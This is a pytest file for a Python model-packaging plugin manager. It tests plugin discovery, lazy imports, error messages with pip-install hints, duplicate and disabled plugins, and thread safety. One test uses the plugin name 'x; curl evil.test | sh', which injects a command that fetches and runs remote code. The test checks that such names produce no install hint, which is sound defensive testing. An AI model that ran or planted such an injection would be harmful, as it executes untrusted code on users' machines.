from __future__ import annotations

import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest

from modelpack.errors import PluginError
from modelpack.plugins.manager import PluginManager, default_manager

if TYPE_CHECKING:
    from site_packages import SitePackages

    from modelpack.interfaces import Flavor


def test_records_are_listed_by_kind_and_name(site: SitePackages) -> None:
    """Flavors, then targets, engines and wrappers; each kind alone when it is asked for."""
    site.install("b", {"modelpack.plugins": {"a": "m"}, "modelpack.targets": {"z": "m:t"}})
    site.install_toy()
    plugins = site.plugins()
    assert [(record.kind, record.name) for record in plugins.records()] == [
        ("flavor", "python_function"),
        ("flavor", "toy"),
        ("target", "local"),
        ("target", "z"),
        ("engine", "local"),
        ("wrapper", "a"),
    ]
    assert [record.name for record in plugins.records("target")] == ["local", "z"]


def test_a_flavor_is_loaded_by_its_name_alone(site: SitePackages) -> None:
    """Asking for one imports that one; another that cannot be imported does not disturb."""
    site.install_toy()
    site.install("broken", {"modelpack.flavors": {"bad": "bad_module:f"}}, files={"bad_module.py": "raise OSError"})
    assert site.plugins().flavor("toy").name == "toy"
    assert "bad_module" not in sys.modules


def test_a_flavor_is_loaded_once(toy_plugins: PluginManager) -> None:
    """The second question is answered with the same object."""
    assert toy_plugins.flavor("toy") is toy_plugins.flavor("toy")


def test_an_import_failure_names_the_distribution(site: SitePackages) -> None:
    """Name, version and cause are told, and what to do; the cause stays for a traceback."""
    files = {"xgb_plugin.py": "import a_missing_library\n"}
    site.install("modelpack-flavor-xgb", {"modelpack.flavors": {"xgb": "xgb_plugin:f"}}, files=files, version="0.4")
    with pytest.raises(PluginError) as caught:
        site.plugins().flavor("xgb")
    assert caught.value.message == (
        "flavor 'xgb' (modelpack-flavor-xgb 0.4) could not be imported from 'xgb_plugin:f': "
        "ModuleNotFoundError: No module named 'a_missing_library'"
    )
    assert "pip install --upgrade modelpack-flavor-xgb" in str(caught.value.hint)
    assert isinstance(caught.value.__cause__, ModuleNotFoundError)


def test_an_attribute_that_is_not_there_is_an_import_failure(site: SitePackages) -> None:
    """The entry point names something that its module does not have."""
    site.install("other", {"modelpack.flavors": {"a": "json:flavor"}})
    with pytest.raises(PluginError, match="AttributeError: module 'json' has no attribute 'flavor'"):
        site.plugins().flavor("a")


def test_a_failed_import_is_tried_again(site: SitePackages) -> None:
    """After the library has been installed, the same process can go on."""
    site.install_flavor("late", "import json\nassert hasattr(json, 'a_library_came')")
    plugins = site.plugins()
    with pytest.raises(PluginError, match="AssertionError"):
        plugins.flavor("late")
    import json

    vars(json)["a_library_came"] = True
    try:
        assert plugins.flavor("late").name == "late"
    finally:
        del vars(json)["a_library_came"]


def test_what_is_not_installed_has_a_pip_line(toy_plugins: PluginManager) -> None:
    """The naming rule makes the line; no list of plugins is needed."""
    with pytest.raises(PluginError) as caught:
        toy_plugins.flavor("xgboost")
    assert caught.value.message == ("the flavor 'xgboost' is not installed; installed flavors: python_function, toy")
    assert caught.value.hint == "to install it: pip install modelpack-flavor-xgboost"


def test_a_typing_error_finds_the_nearest(toy_plugins: PluginManager) -> None:
    """The name that was probably meant is told before the pip line."""
    with pytest.raises(PluginError) as caught:
        toy_plugins.flavor("toyy")
    hint = "did you mean 'toy'? to install it: pip install modelpack-flavor-toyy"
    assert caught.value.hint == hint


def test_a_target_that_is_not_installed_has_its_own_pip_line(toy_plugins: PluginManager) -> None:
    """Targets have a prefix of their own."""
    with pytest.raises(
        PluginError, match="the target 'sagemaker' is not installed; installed targets: local"
    ) as caught:
        toy_plugins.target("sagemaker")
    assert caught.value.hint == "to install it: pip install modelpack-deploy-sagemaker"


def test_a_name_that_no_plugin_can_have_gets_no_pip_line(toy_plugins: PluginManager) -> None:
    """Nothing from a model file becomes a command."""
    with pytest.raises(PluginError) as caught:
        toy_plugins.flavor("x; curl evil.test | sh")
    assert caught.value.hint is None


def test_a_name_used_twice_names_both_distributions(site: SitePackages) -> None:
    """Nothing is picked silently, and the way out works."""
    site.install_toy()
    toy = {"modelpack.flavors": {"toy": "toy_flavor:flavor"}}
    site.install("acme-toys", toy, version="9.0")
    with pytest.raises(PluginError) as caught:
        site.plugins().flavor("toy")
    assert caught.value.message.startswith("two distributions install a flavor 'toy': ")
    assert {"acme-toys 9.0", "modelpack-flavor-toy 1.2.3"} == set(caught.value.message.split(": ")[1].split(" and "))
    assert "MODELPACK_DISABLE_PLUGINS=" in str(caught.value.hint)
    chosen = site.plugins({"MODELPACK_DISABLE_PLUGINS": "acme-toys"})
    assert chosen.record_of(chosen.flavor("toy")).distribution == "modelpack-flavor-toy"


def test_a_disabled_plugin_says_so(site: SitePackages) -> None:
    """It is listed, is not there for anybody, and the error names the variable."""
    site.install_toy()
    plugins = site.plugins({"MODELPACK_DISABLE_PLUGINS": "toy"})
    assert [record.name for record in plugins.records() if record.disabled] == ["toy"]
    assert not plugins.has_flavor("toy")
    with pytest.raises(PluginError, match=r"flavor 'toy' \(modelpack-flavor-toy 1\.2\.3\) is disabled") as caught:
        plugins.flavor("toy")
    assert "MODELPACK_DISABLE_PLUGINS" in str(caught.value.hint)


def test_whether_a_flavor_is_there_is_known_without_importing_it(site: SitePackages) -> None:
    """The name in the metadata is enough."""
    site.install("other", {"modelpack.flavors": {"ghost": "nothing_there:f"}})
    assert site.plugins().has_flavor("ghost")
    assert not site.plugins().has_flavor("spirit")


def test_what_is_installed_meanwhile_is_found(site: SitePackages) -> None:
    """After the pip line of the error, the same process can go on."""
    plugins = site.plugins()
    with pytest.raises(PluginError):
        plugins.flavor("toy")
    site.install_toy()
    assert plugins.flavor("toy").name == "toy"


def test_threads_that_ask_together_get_one_object(site: SitePackages) -> None:
    """A plugin is imported and checked once, however many threads want it first."""
    site.install_flavor("slow", "import time\ntime.sleep(0.05)")
    plugins = site.plugins()
    start = threading.Barrier(8)

    def ask(_: int) -> Flavor[object, object]:  # type: ignore[type-var]  # any flavor
        start.wait()
        return plugins.flavor("slow")

    with ThreadPoolExecutor(8) as pool:
        assert len({id(flavor) for flavor in pool.map(ask, range(8))}) == 1


def test_a_plugin_may_ask_for_another_while_it_is_imported(site: SitePackages) -> None:
    """The lock does not stop the thread that holds it."""
    site.install_toy()
    site.install_flavor(
        "outer", "from modelpack.plugins.manager import default_manager\ndefault_manager().flavor('toy')"
    )
    default_manager.cache_clear()
    try:
        assert default_manager().flavor("outer").name == "outer"
    finally:
        default_manager.cache_clear()


def test_a_flavor_of_the_callers_own_is_described_by_the_naming_rule(toy_plugins: PluginManager) -> None:
    """An object that no entry point yielded can be called too, and errors name it."""
    import toy_flavor

    record = toy_plugins.record_of(toy_flavor.ToyFlavor())
    assert str(record) == "flavor 'toy' (modelpack-flavor-toy not installed)"


def test_the_default_manager_is_one(site: SitePackages) -> None:  # noqa: ARG001 - forgets what was imported
    """Callers that pass none share what is loaded."""
    assert default_manager() is default_manager()
